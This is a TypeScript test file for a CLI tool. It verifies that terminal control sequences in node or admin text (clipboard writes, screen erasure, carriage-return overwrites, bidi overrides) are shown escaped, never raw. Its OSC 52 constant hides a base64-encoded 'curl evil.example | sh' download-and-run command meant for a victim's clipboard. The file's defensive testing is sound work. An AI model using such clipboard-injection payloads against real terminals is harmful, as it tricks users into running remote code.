/**
 * Attack: text from a node or an admin carrying OSC 52 (writes the clipboard), CSI 2J (erases the screen), a C1
 * CSI, a carriage return that overwrites the line and a bidirectional override, printed by `history`, `pairs`,
 * `fix` and `ack`: a stored run's `by` and an unsaved pair's name, a ~/.ssh/config Host entry, a pair's target,
 * tags and name, a fix's plan, step output, result and re-check lines, an ad-hoc fix's name (through the real
 * CLI), an acknowledgement's reason. None of it reaches the terminal raw: every control character shows as a
 * visible escape, and JSON output (these commands and `check`) carries them as JSON `\u` escapes.
 */
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it, vi } from 'vitest'
import type { FixOutcome } from '../../src-main/shared/domain/fix'
import { buildPlan } from '../../src-main/main/fixes'
import { outcomeLines, planPreview, stepLine } from '../../src-main/cli/commands/fix'
import { LAB } from '../history/lab-pair'
import { run as pairsCli } from '../../src-main/cli/commands/pairs'
import { run as historyCli } from '../../src-main/cli/commands/history'
import { run as ackCli } from '../../src-main/cli/commands/ack'
import { printReport } from '../../src-main/cli/commands/check'
import { openAppStore } from '../../src-main/main/store/app-store'
import { SessionSecretStore } from '../../src-main/main/secrets/session-store'
import { useTempDir } from '../db/temp'
import { cli } from './helpers'
import { reportWithSecrets } from '../history/fixture-report'

const OSC52 = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07'
const CSI_2J = '\x1b[2J\x1b[H'
const C1_CSI = '\x9b2J'
const BIDI = '\u202e'
const HOSTILE = `${OSC52}${CSI_2J}${C1_CSI}${BIDI}x\rdone: replication complete`

/** every character a terminal acts on, except tab and newline: C0, DEL, C1, bidi overrides, line separators */
// eslint-disable-next-line no-control-regex
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g
function rawControls(text: string): string[] {
  return [...text.matchAll(RAW)].map((m) => `\\u{${m[0].charCodeAt(0).toString(16)}}`)
}
/** the visible escapes of HOSTILE */
function expectVisible(text: string): void {
  expect(text).toContain('\\x1b]52;c;')
  expect(text).toContain('\\x07')
  expect(text).toContain('\\x1b[2J')
  expect(text).toContain('\\x9b2J')
  expect(text).toContain('\\u{202e}')
  expect(text).toContain('\\x0ddone: replication complete')
}

const tempDir = useTempDir('nsmhad-termsafe-')
const savedHome = process.env.NSM_HA_DOCTOR_HOME
afterEach(() => {
  if (savedHome === undefined) delete process.env.NSM_HA_DOCTOR_HOME
  else process.env.NSM_HA_DOCTOR_HOME = savedHome
  vi.restoreAllMocks()
})

function capture(): { out: string[]; err: string[]; all(): string } {
  const out: string[] = []
  const err: string[] = []
  vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')))
  vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void err.push(a.join(' ')))
  vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => (out.push(String(s)), true))
  return { out, err, all: () => [...out, ...err].join('\n') }
}

describe('history on a terminal', () => {
  it('a stored run of an unsaved pair whose name and `by` hold control sequences: text and JSON show them escaped', async () => {
    const dir = tempDir()
    process.env.NSM_HA_DOCTOR_HOME = dir
    const name = `lab${CSI_2J}`
    const report = reportWithSecrets()
    report.pair = { ...report.pair, name }
    report.by = `admin${HOSTILE}`
    const s = await openAppStore({ dir, secretStore: new SessionSecretStore() })
    s.history.saveRun(report)
    s.close()
    // the input really carries the controls
    expect(rawControls(report.by)).not.toEqual([])

    const io = capture()
    expect(await historyCli(['--pair', name])).toBe(0)
    expect(rawControls(io.all())).toEqual([])
    expectVisible(io.out.join('\n'))

    io.out.length = 0
    expect(await historyCli(['--pair', name, '--format', 'json'])).toBe(0)
    const text = io.out.join('\n')
    expect(rawControls(text)).toEqual([])
    const parsed = JSON.parse(text) as { pair: string; runs: { by: string }[] }
    // JSON escapes keep the value: a program reading it gets the same text back
    expect(parsed.pair).toBe(name)
    expect(parsed.runs[0].by).toBe(report.by)

    // a name with no runs: the refusal quotes it escaped
    expect(await historyCli(['--pair', `x${HOSTILE}`])).toBe(3)
    expect(rawControls(io.all())).toEqual([])
    expectVisible(io.err.join('\n'))
  })
})

describe('pairs on a terminal', () => {
  it('ssh-hosts: a ~/.ssh/config Host entry with control sequences is listed escaped', async () => {
    const dir = tempDir()
    process.env.NSM_HA_DOCTOR_HOME = dir
    const config = join(dir, 'ssh_config')
    writeFileSync(
      config,
      [
        `Host nsm-a${OSC52}`,
        `  HostName 10.0.0.1${CSI_2J}`,
        `  User root${BIDI}`,
        `  IdentityFile /keys/id${C1_CSI}`,
        `  ProxyJump ops@bastion\x1b[1A`,
        ''
      ].join('\n')
    )
    const io = capture()
    expect(await pairsCli(['ssh-hosts', '--ssh-config', config])).toBe(0)
    const text = io.out.join('\n')
    expect(text).toContain('nsm-a')
    expect(rawControls(text)).toEqual([])
    expect(text).toContain('\\x1b]52;c;')
    expect(text).toContain('\\x1b[2J')
    expect(text).toContain('\\u{202e}')
    expect(text).toContain('\\x9b2J')
    expect(text).toContain('jump ops@bastion\\x1b[1A')
  })

  it('add, list and remove: a host, a tag or a name with control sequences never reaches the terminal raw', async () => {
    const dir = tempDir()
    process.env.NSM_HA_DOCTOR_HOME = dir
    const io = capture()
    // whatever the validation decides (saved or refused), what is printed is escaped
    await pairsCli(['add', '--name', `lab${CSI_2J}`, '--primary', 'a', '--secondary', 'b'])
    await pairsCli(['add', '--name', 'lab', '--primary', `root@a${HOSTILE}`, '--secondary', 'b'])
    await pairsCli(['add', '--name', 'lab2', '--primary', 'a', '--secondary', 'b', '--tag', `eu${HOSTILE}`])
    expect(await pairsCli(['list'])).toBe(0)
    expect(await pairsCli(['list', '--format', 'json'])).toBe(0)
    expect(await pairsCli(['remove', `gone${HOSTILE}`])).toBe(3)
    expect(rawControls(io.all())).toEqual([])
    expectVisible(io.err.join('\n'))
    // the validation refuses control characters in a name and in tags; a target is refused quoted, escaped
    expect(io.err).toContain('nsm-ha-doctor pairs: name contains control characters')
    expect(io.err.join('\n')).toContain('--primary: cannot read target "root@a\\x1b]52;c;')
  })
})

describe('fix on a terminal', () => {
  it('the plan preview shows a node-measured value with control sequences escaped, and the commands as they run', () => {
    const plan = buildPlan('fix.rerun-dodirect', { pair: LAB, report: reportWithSecrets(), options: {} })
    plan.preconditions[0].measured = `running${HOSTILE}`
    plan.notes.push(`node said ${HOSTILE}`)
    const text = planPreview(plan)
    expect(rawControls(text)).toEqual([])
    expectVisible(text)
    // nothing but the controls changes: the exact commands are still shown
    for (const step of plan.steps) expect(text).toContain(`$ ${step.command}`)
  })

  it('step output, the result, the state left and the re-check lines show node text escaped', () => {
    const lines = [
      stepLine(`ha.log: ${HOSTILE}`, { node: 'primary', stream: 'stdout' }),
      stepLine(`warning ${HOSTILE}`, { node: 'secondary', stream: 'stderr' }),
      stepLine(`step 1 ${HOSTILE}`, { node: null, stream: 'info' })
    ]
    const report = reportWithSecrets()
    const check = { ...report.checks[0], status: 'fail' as const, summary: `node says ${HOSTILE}` }
    const outcome: FixOutcome = {
      fixId: 'fix.rerun-dodirect',
      status: 'failed',
      message: `step 2 failed: ${HOSTILE}`,
      steps: [],
      stateLeft: `HA stopped ${HOSTILE}`,
      recheck: { checks: [check], stillFailing: [check.id], regressions: [], verdict: 'fail' },
      startedAt: '2026-11-25T06:31:00Z',
      finishedAt: '2026-11-25T06:32:00Z'
    }
    lines.push(...outcomeLines(outcome))
    expect(lines).toHaveLength(7)
    for (const l of lines) expect(rawControls(l)).toEqual([])
    // every line but the list of check ids carries the node's text, escaped
    for (const l of lines.filter((l) => !l.startsWith('re-check: '))) expectVisible(l)
    expect(lines[0].startsWith('  primary> ha.log: ')).toBe(true)
    expect(lines.find((l) => l.startsWith(`  ${check.id}: fail — node says `))).toBeDefined()
  })

  it('the real CLI: an ad-hoc fix named with control sequences (not validated like a saved pair) prints it escaped', async () => {
    const home = tempDir()
    const r = await cli(
      [
        'fix',
        'fix.rerun-dodirect',
        '--primary',
        '127.0.0.1:1',
        '--secondary',
        '127.0.0.1:2',
        '--name',
        `lab${HOSTILE}`,
        '--password-env',
        'PW',
        '--dry-run',
        '--no-save'
      ],
      { NSM_HA_DOCTOR_HOME: home, PW: 'x' }
    )
    // nothing listens on ports 1 and 2: the checks run (every one unknown) and the fix stops, exit 3
    expect(r.code).toBe(3)
    expect(r.stdout).toMatch(/^running the checks on lab/)
    expect(rawControls(r.stdout + r.stderr)).toEqual([])
    expectVisible(r.stdout)
  }, 60_000)

  it('history, pairs, fix and ack print only through the terminal-safe helpers (say, sayError, sayJson)', () => {
    for (const file of ['history', 'pairs', 'fix', 'ack']) {
      const src = readFileSync(join(__dirname, `../../src-main/cli/commands/${file}.ts`), 'utf8')
      expect(src).toMatch(/\bsay\(/)
      expect(src.match(/console\.(log|error|warn|info)\(|process\.std(out|err)\.write\(/g) ?? []).toEqual([])
    }
  })
})

describe('ack and JSON output on a terminal', () => {
  it('ack: a reason with a bidirectional override or a line separator is listed escaped, text and JSON', async () => {
    const dir = tempDir()
    process.env.NSM_HA_DOCTOR_HOME = dir
    const report = reportWithSecrets()
    report.checks[0].status = 'fail'
    const s = await openAppStore({ dir, secretStore: new SessionSecretStore() })
    s.history.saveRun(report)
    s.close()
    const reason = `key rotation ${BIDI}4321-GHC\u2028done: CHG-1234`
    const io = capture()
    expect(await ackCli(['--pair', report.pair.name, '--check', report.checks[0].id, '--reason', reason, '--for', '7d'])).toBe(0)
    expect(await ackCli(['--list'])).toBe(0)
    const text = io.out.join('\n')
    expect(text).toContain('key rotation \\u{202e}4321-GHC\\u{2028}done: CHG-1234')
    expect(await ackCli(['--list', '--format', 'json'])).toBe(0)
    const json = io.out.pop()!
    expect(rawControls(io.all())).toEqual([])
    expect((JSON.parse(json) as { reason: string }[])[0].reason).toBe(reason)
  })

  it('check --format json: C1 controls, DEL and bidi overrides of node text become JSON \\u escapes, the same value parsed', () => {
    const report = reportWithSecrets()
    report.checks[0].summary = `node says ${HOSTILE}\x7f\u2028`
    const io = capture()
    printReport(report, 'json')
    const text = io.out.join('')
    expect(rawControls(text)).toEqual([])
    expect(text).toContain('\\u009b2J\\u202ex')
    expect((JSON.parse(text) as { checks: { summary: string }[] }).checks[0].summary).toBe(report.checks[0].summary)
  })
})
